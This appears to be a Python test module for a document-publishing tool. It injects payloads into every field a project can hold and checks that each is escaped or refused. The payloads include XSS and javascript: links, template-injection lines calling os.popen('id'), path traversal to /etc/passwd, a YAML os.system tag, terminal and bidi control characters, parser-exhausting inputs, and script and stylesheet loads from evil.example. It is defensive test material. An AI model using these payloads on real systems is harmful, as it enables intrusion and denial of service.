"""Attacks: payloads of our own writing, and every place of a project that content reaches.

Each payload holds the word `zebra`, so that what became of it can be found.
"""

import json
from collections.abc import Callable

from tests import project

#: Text that means harm, by kind. Some are legal text and must show as such; some are refused.
PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert('zebra')</script>",
        "</title></style><script>alert(1)//zebra</script>",
        "--><script src=//evil.example/zebra.js></script><!--",
        "<scr<script>ipt>alert(1)</scr</script>ipt>zebra",
        "zebra]]><script>alert(1)</script>",
    ),
    "handler": (
        '" onmouseover="alert(1)" zebra="',
        "' autofocus onfocus='alert(1)' zebra='",
        "<body onload=alert(1)>zebra",
        "<details open ontoggle=alert(1)>zebra</details>",
        "`zebra` onpointerenter=alert(1)//",
    ),
    "image": (
        "<img src=x onerror=alert(1)>zebra",
        "![zebra](https://evil.example/pixel.png)",
        "![zebra](//evil.example/pixel.png)",
        "![zebra](file:///etc/hostname)",
        "![zebra](data:image/svg+xml;base64,PHN2Zy8+)",
        "![zebra](../../../../etc/hostname)",
        "![zebra](picture:../../etc/passwd)",
    ),
    "link": (
        "[zebra](javascript:alert(1))",
        "[zebra](JaVaScRiPt&colon;alert(1))",
        "[zebra](java&#10;script:alert(1))",
        "[zebra](\\x01javascript:alert(1))",
        "[zebra](data:text/html,<script>alert(1)</script>)",
        "[zebra](vbscript:msgbox)",
        "[zebra](//evil.example/)",
        "[zebra](file:///etc/passwd)",
        "[zebra](/etc/passwd)",
        '[zebra](https://ok.example/"onclick="alert(1))',
        "<javascript:alert('zebra')>",
        '[zebra](mailto:a@b.example?body="><script>alert(1)</script>)',
        "[zebra][r]\n\n[r]: javascript:alert(1)",
    ),
    "svg": (
        "<svg onload=alert(1)><text>zebra</text></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>zebra</text></a></svg>",
        "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>zebra",
        "<svg><image href='file:///etc/hostname'/></svg>zebra",
    ),
    "style": (
        "<style>*{display:none}</style>zebra",
        "</style><style>@import url(//evil.example/zebra.css);</style>",
        '" style="position:fixed;inset:0;background:url(//evil.example/zebra)',
        "<link rel=stylesheet href=//evil.example/zebra.css>",
        "expression(alert(1)) zebra",
        "zebra /* @font-face{} */ }body{display:none}",
        "@page{size:1mm}zebra",
    ),
    "frame": (
        "<iframe src=//evil.example/>zebra",
        "<object data=file:///etc/passwd>zebra</object>",
        "<embed src=//evil.example/x.swf>zebra",
        "<base href=//evil.example/>zebra",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>zebra",
        "<form action=//evil.example/><button>zebra</button></form>",
        "<a rel=attachment href=file:///etc/hostname>zebra</a>",
    ),
    "template": (
        "{% raw %}zebra{{ 7*7 }}{% endraw %}",
        "{{ 7*7 }} zebra",
        "{% for i in range(9) %}zebra{% endfor %}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }} zebra",
        "{# zebra #}",
        "${7*7} #{7*7} <%= 7*7 %> zebra",
        "{0.__class__} {brief} %s %(x)s zebra",
        "{% include '/etc/hostname' %} zebra",
    ),
    "encoding": (
        "&lt;script&gt;alert('zebra')&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;zebra",
        "%3Cscript%3Ealert(1)%3C/script%3Ezebra",
        "\\u003cscript\\u003ealert(1)//zebra",
        "+ADw-script+AD4-zebra",
        "＜script＞alert(1)＜/script＞zebra",
    ),
    "path": (
        "../../../../etc/zebra",
        "/etc/zebra",
        "file:///etc/zebra",
        "C:\\zebra\\..\\..\\x",
        'zebra.html#"><script>alert(1)</script>',
    ),
}

#: Characters that act: each is refused wherever it stands, raw or as an escape.
ACTING: dict[str, str] = {
    "a terminal escape": "\x1b[31mzebra\x1b[0m",
    "a title for the terminal": "\x1b]0;zebra\x07",
    "an erased line": "\x1b[2K\rzebra",
    "a C1 control": "\x9b31mzebra",
    "a backspace": "zebra\x08\x08\x08lion",
    "a null": "ze\x00bra",
    "a right-to-left override": "zebra \u202egnp.exe",
    "an isolate": "zebra \u2066x\u2069",
    "an Arabic letter mark": "zebra\u061c",
    "a zero-width space": "ze\u200bbra",
    "a zero-width joiner": "ze\u200dbra",
    "a byte order mark inside": "ze\ufeffbra",
    "a line separator": "ze\u2028bra",
    "tags": "zebra\U000e0041\U000e0042",
}

Place = Callable[[str], dict[str, str | None]]


def text(value: str) -> str:
    """Return a value as a TOML or JSON string; both take these escapes."""
    return json.dumps(value, ensure_ascii=False).replace("\x7f", "\\u007f")


def in_text(before: str, after: str = "") -> Place:
    """Put a payload into a fragment, as it is."""

    def change(payload: str) -> dict[str, str | None]:
        return {"answer": f"{project.ANSWER}\n{before}{payload}{after}\n"}

    return change


def in_toml(file: str, old: str, new: str) -> Place:
    """Put a payload into a TOML file as the string `{}` of `new`, which stands for `old`."""
    source = {"brief": project.BRIEF, "settings": project.SETTINGS, "figures": project.FIGURES}

    def change(payload: str) -> dict[str, str | None]:
        assert old in source[file], old
        return {file: source[file].replace(old, new.replace("{}", text(payload)), 1)}

    return change


def in_source(key: str, value: Callable[[str], object] = str) -> Place:
    """Put a payload into a field of a cited source."""

    def change(payload: str) -> dict[str, str | None]:
        record = {**project.SOURCES[1], key: value(payload)}
        records = [project.SOURCES[0], record, project.SOURCES[2]]
        return {"sources": json.dumps(records, indent=1, ensure_ascii=False)}

    return change


def in_claim(key: str) -> Place:
    """Put a payload into a field of a cited claim."""

    def change(payload: str) -> dict[str, str | None]:
        return {"claims": json.dumps({**project.CLAIM, key: payload}, ensure_ascii=False) + "\n"}

    return change


#: Every place that text reaches, and whether a paper prints it.
PLACES: dict[str, tuple[Place, bool]] = {
    "a fragment's text": (in_text(""), True),
    "a word in the text": (in_text("before ", " behind"), True),
    "a heading": (in_text("### "), True),
    "a table's cell": (in_text("Table: t {#t}\n\n| a | b |\n|---|---|\n| c | ", " |"), True),
    "a table's caption": (in_text("Table: ", " {#t}\n\n| a |\n|---|\n| c |"), True),
    "a link's text": (in_text("[", "](https://ok.example/)"), True),
    "a link's address": (in_text("[x](https://ok.example/", ")"), False),
    "a code span": (in_text("``", "``"), True),
    "a code block": (in_text("```zebra\n", "\n```"), True),
    "a code block's language": (in_text("```", "\nx\n```"), False),
    "a box": (in_text("::: box\n", "\n:::"), True),
    "a citation's suffix": (in_text("x [@report, ", "]"), True),
    "a citation's prefix": (in_text("x [", " @report]"), True),
    "a fence's word": (in_text("::: ", "\nx\n:::"), False),
    "a figure's name": (in_text("{{", "}}"), False),
    "a cross-reference": (in_text("[](#", ")"), False),
    "a front matter's title": (
        lambda p: {"answer": project.ANSWER.replace("The answer", json.dumps(p))},
        False,
    ),
    "a front matter's plain title": (
        lambda p: {"answer": project.ANSWER.replace("The answer", p)},
        False,
    ),
    "a title": (in_toml("brief", '"Rivers of Arvenne"', "{}"), True),
    "a subtitle": (in_toml("brief", '"Who may draw how much"', "{}"), True),
    "a number": (in_toml("brief", '"T 1"', "{}"), True),
    "an author": (in_toml("brief", '"A. Writer"', "{}"), True),
    "a contact": (in_toml("brief", '"Desk 4"', "{}"), True),
    "a subject": (in_toml("brief", '"Shared rivers"', "{}"), True),
    "a keyword": (in_toml("brief", '["rivers"]', "[{}]"), True),
    "a status": (in_toml("brief", '"published"', "{}"), False),
    "a language": (in_toml("brief", 'number = "T 1"', "language = {}"), False),
    "a date": (in_toml("brief", '"2026-06"', "{}"), False),
    "a section's title": (in_toml("brief", '"Bottom line"', "{}"), True),
    "a section's id": (in_toml("brief", '"answer"', "{}"), False),
    "a section's role": (in_toml("brief", '"bottom-line"', "{}"), False),
    "a fragment's name": (in_toml("brief", '["answer"]', "[{}]"), False),
    "a preset's name": (in_toml("settings", "[presets.note]", "[presets.{}]"), False),
    "a preset's title": (in_toml("settings", "[presets.note]", "[presets.note]\ntitle = {}"), True),
    "a preset's role": (in_toml("settings", '"bottom-line", "sources"', '{}, "sources"'), False),
    "the project's name": (in_toml("settings", '"Rivers"', "{}"), False),
    "the project's language": (in_toml("settings", '"en-GB"', "{}"), False),
    "the style": (in_toml("settings", 'name = "Rivers"', "style = {}"), False),
    "the theme": (in_toml("settings", 'name = "Rivers"', "theme = {}"), False),
    "before a figure": (in_toml("figures", 'after = " m³"', "before = {}"), True),
    "behind a figure": (in_toml("figures", '" m³"', "{}"), True),
    "a figure's value": (in_toml("figures", "value = 1200", "value = {}"), True),
    "a figure's unit": (in_toml("figures", '"cubic metres a second"', "{}"), False),
    "a source's title": (in_source("title"), True),
    "a source's author": (in_source("author", lambda p: [{"literal": p}]), True),
    "a source's family name": (
        in_source("author", lambda p: [{"family": p, "given": p}]),
        True,
    ),
    "a source's publisher": (in_source("publisher"), True),
    "a source's address": (in_source("URL"), True),
    "a source's id": (in_source("id"), False),
    "a source's type": (in_source("type"), False),
    "a source's note": (in_source("note"), False),
    "a claim's text": (in_claim("claim"), False),
    "a claim's evidence": (in_claim("evidence"), True),
    "a claim's topic": (in_claim("topic"), False),
    "a claim's locator": (
        lambda p: {
            "claims": json.dumps(
                {
                    **project.CLAIM,
                    "sources": [{"id": "report", "locator": {"label": "page", "value": p}}],
                },
                ensure_ascii=False,
            )
            + "\n"
        },
        True,
    ),
}


def _toml_heads(count: int) -> str:
    return project.FIGURES + "".join(f"[f{n}]\n" for n in range(count))


def _sources(count: int) -> str:
    return "[" + ",".join(["{}"] * count) + "]"


#: Content that would take a machine's time or memory: what stands where, and the finding.
BOMBS: dict[str, tuple[dict[str, str], str]] = {
    # how much
    "a huge file": ({"answer": project.ANSWER + "word " * 2_000_000}, "too-large"),
    "a long line": ({"answer": project.ANSWER + "w" * 150_000}, "too-large"),
    "a long paragraph": ({"answer": project.ANSWER + "word\n" * 20_000}, "too-large"),
    "a table of 40,000 rows": (
        {"answer": project.ANSWER + "\n| a |\n|---|\n" + "| b |\n" * 40_000},
        "too-large",
    ),
    "a table of many columns": (
        {"answer": project.ANSWER + "\n" + "| a " * 9_000 + "|\n" + "|---" * 9_000 + "|\n| b |\n"},
        "too-large",
    ),
    "a table that fills itself": (
        {"answer": project.ANSWER + "\n" + "|a" * 90 + "|\n" + "|-" * 90 + "|\n" + "|\n" * 1_900},
        "too-large",
    ),
    # how deep
    "quotations in quotations": (
        {"answer": project.ANSWER + "\n" + "> " * 5_000 + "a"},
        "too-large",
    ),
    "lists in lists": ({"answer": project.ANSWER + "\n" + "- " * 5_000 + "a"}, "too-large"),
    "emphasis in emphasis": (
        {"answer": project.ANSWER + "\n" + "*a **b " * 900 + "c** d*" * 900},
        "too-large",
    ),
    "fences in fences": (
        {"answer": project.ANSWER + "".join(f"{':' * n} box\n" for n in range(600, 3, -1))},
        "bad-fence",
    ),
    # the parsers
    "brackets": ({"answer": project.ANSWER + "[" * 19_000}, ""),
    "images in images": ({"answer": project.ANSWER + "![" * 9_000}, ""),
    "stars": ({"answer": project.ANSWER + "*a_" * 6_000}, ""),
    "bad links": ({"answer": project.ANSWER + "[a](b) " * 2_800}, "refused-link"),
    "unknown names": ({"answer": project.ANSWER + "[@nobody] " * 1_900}, "unknown-source"),
    "stray fences": ({"answer": project.ANSWER + ":::\n" * 50_000}, "bad-fence"),
    "acting characters": ({"answer": project.ANSWER + "\u202e" * 60_000}, "control-character"),
    "many small paragraphs": ({"answer": project.ANSWER + "*a*\n\n" * 20_000}, ""),
    # YAML
    "aliases": (
        {
            "answer": "---\ntitle: &a [x, x]\n"
            + "".join(f"k{n}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(20))
            + "---\nx\n"
        },
        "bad-front-matter",
    ),
    "a tag": (
        {"answer": "---\ntitle: !!python/object/apply:os.system [id]\n---\nx\n"},
        "bad-front-matter",
    ),
    "deep YAML": ({"answer": f"---\ntitle: {'[' * 4_000}\n---\nx\n"}, "bad-front-matter"),
    "large YAML": ({"answer": f"---\ntitle: {'x' * 90_000}\n---\nx\n"}, "bad-front-matter"),
    "a key twice": ({"answer": "---\ntitle: a\ntitle: b\n---\nx\n"}, "bad-front-matter"),
    # TOML
    "deep TOML": ({"brief": "title = " + "[" * 50_000}, "bad-toml"),
    "deep TOML tables": ({"brief": "a" + ".a" * 40_000 + " = 1"}, "too-large"),
    "a huge number in TOML": ({"figures": "[flow]\nvalue = " + "9" * 50_000}, "bad-toml"),
    "many TOML tables": ({"figures": _toml_heads(20_000)}, "bad-value"),
    "many unknown settings": (
        {"settings": project.SETTINGS + "".join(f"s{n} = 1\n" for n in range(40_000))},
        "unknown-setting",
    ),
    "a long unknown name": (
        {"settings": f"{'p' * 90_000} = 1\n" + project.SETTINGS},
        "unknown-setting",
    ),
    # JSON
    "deep JSON": ({"sources": "[" * 200_000}, "bad-json"),
    "deep JSON that ends": ({"sources": "[" * 50_000 + "]" * 50_000}, "bad-json"),
    "a huge number in JSON": ({"sources": '[{"id": ' + "9" * 50_000 + "}]"}, "bad-json"),
    "many JSON records": ({"sources": _sources(300_000)}, "bad-source"),
    "more JSON records": ({"sources": _sources(2_000_000)}, "too-large"),
    "deep JSON Lines": ({"claims": "[" * 200_000 + "\n"}, "bad-json"),
    "many bad claims": ({"claims": "x\n" * 100_000}, "bad-json"),
    "half a character": (
        {"sources": '[{"id": "a", "type": "book", "title": "\\ud800"}]'},
        "bad-json",
    ),
}
